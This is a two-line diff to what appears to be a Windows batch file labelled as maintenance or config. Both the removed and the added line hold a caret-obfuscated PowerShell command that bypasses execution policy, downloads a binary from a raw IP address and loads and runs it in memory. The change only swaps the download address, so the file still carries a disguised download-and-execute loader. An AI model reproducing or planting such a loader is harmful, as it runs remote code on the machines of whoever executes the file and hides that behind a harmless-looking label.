@@ -1,2 +1,2 @@
-REM maintenance 3309 v0
-powe^r^she^l^l -ep ^b^y^p^a^s^s -c "$d=(New-Object Net.WebClient).DownloadData('http://198.51.100.9/p.bin');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
+REM config 2262 v0
+p^owe^r^s^hell -^ep ^b^yp^ass -c "$d=(New-Object Net.WebClient).DownloadData('http://192.0.2.150/p.bin');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
